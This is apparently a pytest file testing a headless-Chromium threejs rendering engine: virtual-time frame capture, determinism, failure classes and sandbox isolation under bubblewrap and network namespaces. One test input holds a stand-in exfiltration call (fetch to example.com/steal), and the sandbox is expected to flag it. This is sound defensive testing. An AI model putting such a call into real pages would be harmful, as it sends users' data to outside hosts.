"""The threejs engine in headless Chromium: virtual time, determinism, failure classes."""

from __future__ import annotations

import numpy as np
import pytest

from visphy_core.api.engine import FailureClass, Program, RenderContract
from visphy_core.infra.video import frame_digest

pytestmark = pytest.mark.browser

CONTRACT = RenderContract(fps=5, n_frames=6, width=128, height=128, timeout_s=20)


@pytest.fixture(scope="module")
def engine():
    from visphy_plugins.engines.threejs import ThreeJsEngine

    eng = ThreeJsEngine()
    yield eng
    eng.close()


def page(script: str, canvas: bool = True) -> Program:
    body = '<canvas id="c" width="128" height="128"></canvas>' if canvas else ""
    return Program("html", f"<html><body>{body}<script>{script}</script></body></html>")


# A 2D-canvas program that encodes virtual time and Math.random into what it draws.
CLOCK_PROGRAM = page("""
const ctx = document.getElementById('c').getContext('2d');
let timerTicks = 0; setInterval(() => { timerTicks += 1; }, 100);
const r = Math.random();
function draw(t) {
  ctx.fillStyle = '#fff'; ctx.fillRect(0, 0, 128, 128);
  ctx.fillStyle = '#f34f46';
  ctx.fillRect(Math.round(performance.now() / 20), Math.floor(r * 1e6) % 90, 10, 10);
  ctx.fillStyle = '#1877f2'; ctx.fillRect(0, 100, timerTicks, 5);
  document.title = String(Date.now());
  requestAnimationFrame(draw);
}
requestAnimationFrame(draw);
""")


def red_x(frame: np.ndarray) -> int:
    ys, xs = np.nonzero((frame[..., 0] > 200) & (frame[..., 1] < 120))
    return int(xs.min())


def test_frames_are_captured_at_exact_virtual_times(engine):
    result = engine.render(CLOCK_PROGRAM, CONTRACT)
    assert result.ok, result.error
    # frame k is captured at t = k / fps = 200 k ms; the square sits at x = t / 20
    assert [red_x(f) for f in result.frames] == [0, 10, 20, 30, 40, 50]


def test_same_program_gives_identical_frames(engine):
    a = engine.render(CLOCK_PROGRAM, CONTRACT)
    b = engine.render(CLOCK_PROGRAM, CONTRACT)
    assert [frame_digest(f) for f in a.frames] == [frame_digest(f) for f in b.frames]


def test_seed_changes_math_random(engine):
    a = engine.render(CLOCK_PROGRAM, CONTRACT)
    b = engine.render(CLOCK_PROGRAM, RenderContract(**{**CONTRACT.__dict__, "seed": 7}))
    assert frame_digest(a.frames[0]) != frame_digest(b.frames[0])


# Messages between the ports of a MessageChannel (setImmediate polyfills, schedulers): each tick
# posts one; a closed channel stops; the counts are drawn as x positions.
CHANNEL_PROGRAM = page("""
const ctx = document.getElementById('c').getContext('2d');
let got = 0, late = 0, posted = 0;
const ch = new MessageChannel();
ch.port1.onmessage = (ev) => { got += ev.data.n === got + 1 ? 1 : 1000; };
const other = new MessageChannel();
other.port2.addEventListener('message', () => { late += 1; });
function draw(t) {
  posted += 1;
  ch.port2.postMessage({n: posted});
  if (posted <= 3) other.port1.postMessage(posted); else other.port1.close();
  ctx.fillStyle = '#fff'; ctx.fillRect(0, 0, 128, 128);
  ctx.fillStyle = '#f34f46'; ctx.fillRect(got % 128, 10, 6, 6);
  ctx.fillStyle = '#1877f2'; ctx.fillRect(late * 10, 40, 6, 6);
  requestAnimationFrame(draw);
}
requestAnimationFrame(draw);
""")


def test_message_channel_messages_arrive_one_round_per_tick_whatever_the_load(engine):
    result = engine.render(CHANNEL_PROGRAM, CONTRACT)
    assert result.ok, result.error
    # 60 ticks per second: frame k (t = 200 k ms) is drawn at tick 12 k, after 12 k messages,
    # each delivered in order at the tick after it was posted; a real task would depend on when
    # the host's next capture reached the page.
    assert [red_x(f) for f in result.frames] == [0, 12, 24, 36, 48, 60]
    blue = [int(np.nonzero((f[40, :, 2] > 200) & (f[40, :, 0] < 60))[0].min())
            for f in result.frames]
    assert blue == [0, 30, 30, 30, 30, 30]  # three messages, then the port was closed


def test_webgl_three_js_renders_deterministically(engine):
    program = page("""
const renderer = new THREE.WebGLRenderer({canvas: document.getElementById('c'), antialias: false});
const scene = new THREE.Scene(); scene.background = new THREE.Color(0xffffff);
const camera = new THREE.OrthographicCamera(0, 128, 128, 0, -1, 1);
const ball = new THREE.Mesh(new THREE.CircleGeometry(10, 64),
                            new THREE.MeshBasicMaterial({color: 0xf34f46}));
scene.add(ball);
const world = new CANNON.World(); world.gravity.set(0, -60, 0);
const body = new CANNON.Body({mass: 1, shape: new CANNON.Sphere(10)});
body.position.set(64, 110, 0);
world.addBody(body);
let last = performance.now();
function loop(now) { world.step(1/60, (now - last) / 1000, 10); last = now;
  ball.position.set(body.position.x, body.position.y, 0); renderer.render(scene, camera);
  requestAnimationFrame(loop); }
setupRecording(renderer.domElement, 1200);
requestAnimationFrame(loop);
""")
    a = engine.render(program, CONTRACT)
    b = engine.render(program, CONTRACT)
    assert a.ok, a.error
    assert [frame_digest(f) for f in a.frames] == [frame_digest(f) for f in b.frames]
    heights = [np.nonzero(f[..., 1] < 120)[0].mean() for f in a.frames]
    assert heights == sorted(heights) and heights[-1] - heights[0] > 20  # it falls (rows grow)


@pytest.mark.parametrize("script, canvas, failure", [
    ("function draw( { }", True, FailureClass.SYNTAX_ERROR),
    ("const c = document.getElementById('c').getContext('2d');"
     "function d(t){ if (t > 500) throw new Error('boom at 0.5 s');"
     " c.fillRect(t/10,0,5,5); requestAnimationFrame(d);} requestAnimationFrame(d);",
     True, FailureClass.RUNTIME_ERROR),
    ("requestAnimationFrame(() => { for (;;) {} });", True, FailureClass.TIMEOUT),
    ("console.log('no canvas here');", False, FailureClass.BLANK_OUTPUT),
    ("document.getElementById('c').getContext('2d');", True, FailureClass.BLANK_OUTPUT),
    ("fetch('https://example.com/steal?k=1').catch(() => {});"
     "const c = document.getElementById('c').getContext('2d');"
     "function d(t){ c.fillRect(t/10,0,5,5); requestAnimationFrame(d);} requestAnimationFrame(d);",
     True, FailureClass.SANDBOX_VIOLATION),
])
def test_broken_programs_get_the_right_failure_class(engine, script, canvas, failure):
    contract = RenderContract(**{**CONTRACT.__dict__, "timeout_s": 5})
    result = engine.render(page(script, canvas), contract)
    assert result.failure is failure, (result.error, result.logs[:5])
    assert result.frames is None
    # the pool keeps working after each failure
    assert engine.render(CLOCK_PROGRAM, CONTRACT).ok


def test_cdn_script_tags_are_replaced_by_vendored_libraries(engine):
    program = Program("html", """<html><head>
<script src="https://cdn.jsdelivr.net/npm/three@0.160.0/build/three.min.js"></script>
</head><body><canvas id="c" width="128" height="128"></canvas><script>
const ctx = document.getElementById('c').getContext('2d');
function d(t){ ctx.fillStyle = THREE.REVISION === '160' ? '#000' : '#f00';
  ctx.fillRect(t / 20, 0, 8, 8); requestAnimationFrame(d); } requestAnimationFrame(d);
</script></body></html>""")
    result = engine.render(program, CONTRACT)
    assert result.ok, result.error
    assert not result.blocked_requests
    assert result.frames[3][0:8, 30:38].max() < 10  # drawn in black: THREE r160 was present


def test_oracle_program_of_a_mini_scene_renders_byte_identically(engine, mini_scenes):
    scene = mini_scenes[0]
    program = engine.program_from_spec(scene)
    contract = RenderContract.for_scene(scene)
    first = engine.render(program, contract)
    second = engine.render(program, contract)
    assert first.ok and first.frames.shape == (scene.clip.n_frames, 512, 512, 3)
    assert first.flags == [] and second.flags == []  # the reference page needs no adjustment
    assert [frame_digest(f) for f in first.frames] == [frame_digest(f) for f in second.frames]
    # and the replay lands on the ground truth: same pixels up to rasterisation of edges
    from visphy_plugins.datasets.visphybench.raster2d import render_clip_2d

    truth = render_clip_2d(scene.spec, scene.trajectory["frame_poses"])
    mismatch = np.any(first.frames != truth, axis=-1).mean()
    assert mismatch < 0.002, f"{mismatch:.4%} of pixels differ from the rasterised ground truth"


def test_oracle_program_of_a_3d_scene_reproduces_the_ground_truth(engine, mini_root, tmp_path):
    """A 3D scene rendered by the builder, then by the engine's reference program: same frames."""
    import json

    from visphy_core.sandbox.browser import BrowserPool
    from visphy_plugins.datasets.visphybench.build import write_scene
    from visphy_plugins.datasets.visphybench.catalogue import Entry
    from visphy_plugins.datasets.visphybench.loader import load_generated

    data = json.loads((mini_root / "catalogue.json").read_text())
    first_3d = next(s for s in data["scenes"] if s["spec"]["dim"] == "3d")
    entry = Entry(spec=first_3d["spec"], digest=first_3d["digest"], attempts=1, rejected={})
    with BrowserPool() as pool:
        meta = write_scene(entry, tmp_path, pool)
    (tmp_path / "metadata.jsonl").write_text(json.dumps(meta) + "\n")
    scene = load_generated(tmp_path)[0]
    assert scene.dim == "3d" and scene.clip.n_frames == 75 and scene.clip.fps == 15
    result = engine.render(engine.program_from_spec(scene), RenderContract.for_scene(scene))
    assert result.ok, result.error
    assert result.flags == []
    from visphy_plugins.metrics.pixel import psnr_frame

    truth = scene.reference_frames()
    assert np.mean([psnr_frame(a, b) for a, b in zip(truth, result.frames)]) > 35


# ------------------------------------------------------------------------------ isolation

def test_isolation_level_is_recorded(engine):
    import os

    from visphy_core.sandbox.browser import (
        ISOLATION_BWRAP,
        ISOLATION_NETNS,
        browser_isolation_level,
        netns_prefix,
    )
    from visphy_core.sandbox.process import isolation_available

    result = engine.render(CLOCK_PROGRAM, CONTRACT)
    assert result.ok
    level = browser_isolation_level()
    assert result.isolation == level
    if netns_prefix()[0] is not None:
        assert level in (ISOLATION_BWRAP, ISOLATION_NETNS)
    if os.geteuid() == 0 and isolation_available()[0]:
        assert level == ISOLATION_BWRAP


def test_under_bubblewrap_chromium_runs_as_nobody_and_sees_no_host_files(tmp_path):
    """Root callers: a renderer exploit would find uid 65534, no capabilities, and a root that
    holds /usr, fonts and Chromium's own config only (no /root, no project, no canary file)."""
    import os

    from visphy_core.sandbox.browser import BrowserPool
    from visphy_core.sandbox.chromium import bwrap_for_chromium, descendants

    secret = tmp_path / "secret.txt"
    secret.write_text("host-only")

    if bwrap_for_chromium()[0] is None:
        pytest.skip(f"no bubblewrap level for Chromium here: {bwrap_for_chromium()[1]}")
    with BrowserPool() as pool:
        cap = pool.render_page(CLOCK_PROGRAM.source, {}, [0.0], width=64, height=64,
                               timeout_s=20)
        assert len(cap.frames) == 1, (cap.errors, cap.infra_error)
        chromium_pids = []
        for pid in descendants(pool._browsers[0].pid):
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
                status = open(f"/proc/{pid}/status").read()
            except OSError:
                continue
            if b"chromium" in cmdline.split(b"\0")[0] or b"--type=" in cmdline:
                chromium_pids.append(pid)
                uid = status.split("Uid:")[1].split()
                cap_eff = status.split("CapEff:")[1].split()[0]
                assert uid[:2] == ["65534", "65534"], (pid, uid)
                assert int(cap_eff, 16) == 0, (pid, cap_eff)
        assert chromium_pids, "found no Chromium process under the launcher"
        view = f"/proc/{chromium_pids[0]}/root"
        assert set(os.listdir(view)) <= {"usr", "etc", "var", "tmp", "dev", "proc", "bin", "lib",
                                          "lib64", "sbin"}
        assert not os.path.exists(view + str(secret))
        assert not os.path.exists(view + "/root") and not os.path.exists(view + "/work")


def test_without_a_namespace_untrusted_pages_are_refused_unless_allowed(monkeypatch):
    """A kernel that refuses namespaces: no page runs until the user opts out explicitly."""
    from visphy_core.sandbox import browser, chromium, policy
    from visphy_plugins.engines.browser_base import tick_ms_for

    monkeypatch.setitem(chromium._NETNS_PROBE, "result", (None, "unshare -n refused: test"))
    monkeypatch.setitem(chromium._BWRAP_PROBE, "result", (None, "no bwrap: test"))
    monkeypatch.setattr(policy, "_allow_unisolated", None)
    monkeypatch.delenv(browser.ALLOW_UNISOLATED_ENV, raising=False)
    assert browser.browser_isolation_level().startswith("unavailable: ")
    page_html = CLOCK_PROGRAM.source
    with browser.BrowserPool() as pool:
        with pytest.raises(browser.SandboxUnavailable, match="allow_unisolated"):
            pool.render_page(page_html, {}, [0.0], width=64, height=64, timeout_s=10,
                             tick_ms=tick_ms_for(5))
    assert issubclass(browser.SandboxUnavailable, browser.BrowserUnavailable)
    monkeypatch.setenv(browser.ALLOW_UNISOLATED_ENV, "1")
    assert browser.browser_isolation_level() == "none"
    monkeypatch.delenv(browser.ALLOW_UNISOLATED_ENV)
    browser.configure(allow_unisolated=True)
    assert browser.browser_isolation_level() == "none"
    with browser.BrowserPool() as pool:
        cap = pool.render_page(page_html, {}, [0.0, 200.0], width=128, height=128, timeout_s=20,
                               tick_ms=tick_ms_for(5))
    assert cap.isolation == "none" and len(cap.frames) == 2, (cap.errors, cap.infra_error)


def test_netns_probe_finds_an_empty_namespace():
    from visphy_core.sandbox.browser import netns_prefix

    prefix, note = netns_prefix()
    if prefix is None:
        pytest.skip(f"no network namespace here: {note}")
    import subprocess

    out = subprocess.run(prefix + ["cat", "/proc/self/net/dev"], capture_output=True, text=True,
                         timeout=10).stdout
    assert [line.split(":")[0].strip() for line in out.splitlines()[2:]] == ["lo"]
